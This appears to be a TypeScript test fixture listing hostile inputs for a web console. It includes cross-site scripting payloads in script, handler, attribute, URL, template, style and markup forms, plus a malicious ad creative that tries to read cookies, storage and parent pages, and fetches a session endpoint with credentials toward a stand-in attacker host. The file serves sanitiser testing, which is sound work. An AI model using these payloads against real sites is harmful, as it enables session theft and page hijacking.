// What an outsider may send in place of a name, an id or an address, and a creative that attacks the page around it.

/** Nothing may be requested from here. */
export const ELSEWHERE = 'https://attacker.example'

/** The tests give every frame a function `ran`, which reports that a script ran. */
export const PAYLOADS = {
  script: `</td></title></textarea>"><script>ran('script')</script><script src=${ELSEWHERE}/a.js></script>`,
  handler: `<img src=${ELSEWHERE}/i.png onerror=ran('img')><svg/onload=ran('svg')><details open ontoggle=ran('toggle')>`,
  attribute: `'" autofocus onfocus=ran('focus') onmouseover=ran('over') style=x:expression(ran(1)) x='"`,
  address: `javascript:ran('address')//${ELSEWHERE}/?<b>`,
  data: `data:text/html,<script>ran('data')</script>`,
  template: `{{constructor.constructor('ran(1)')()}}\${ran('template')}<%= ran(1) %>#{ran(1)}`,
  bidi: '\u202egnp.evil\u202d\u2066approved\u2067\u200f\u0007\u001b[2J',
  word: 'W'.repeat(190),
  style: `</style><style>*{background:url(${ELSEWHERE}/s)}</style>;background:url(${ELSEWHERE}/s)`,
  json: '{"__html":"<b onclick=ran(1)>x</b>","type":"img","props":{"onerror":"ran(1)"},"__proto__":{"x":1}}',
  markup: `<base href=${ELSEWHERE}><meta http-equiv=refresh content="0;${ELSEWHERE}"><iframe srcdoc="<script>parent.ran(1)</script>">`,
  link: `<a href="${ELSEWHERE}" target="_blank">x</a>[x](javascript:ran(1))../../../console/api/session`,
} as const

/** A creative that tries to get out of its frame. Its own scripts may run; each success is reported. */
export const ESCAPING = `<p>hello</p><script>
const attempt = (what, work) => { try { work(); } catch { return } ran(what) }
attempt('reads the console', () => parent.parent.document.body.innerHTML)
attempt('reads the page around it', () => parent.document.body.innerHTML)
attempt('reads cookies', () => document.cookie)
attempt('reads storage', () => localStorage.length)
try { if (open('${ELSEWHERE}/popup')) ran('opens a window') } catch {}
try { alert(1); confirm(1); prompt(1) } catch {}
try { top.location = '${ELSEWHERE}/top' } catch {}
for (const url of ['/console/api/session', '${ELSEWHERE}/f'])
  fetch(url, { credentials: 'include' }).then(() => ran('fetches ' + url), () => {})
new Image().src = '${ELSEWHERE}/p.png'
document.querySelector('p').textContent = 'all attempts were made'
</script><a id="out" target="_top" href="${ELSEWHERE}/link">out</a>
<form action="${ELSEWHERE}/form" target="_top"><button id="send">send</button></form>`
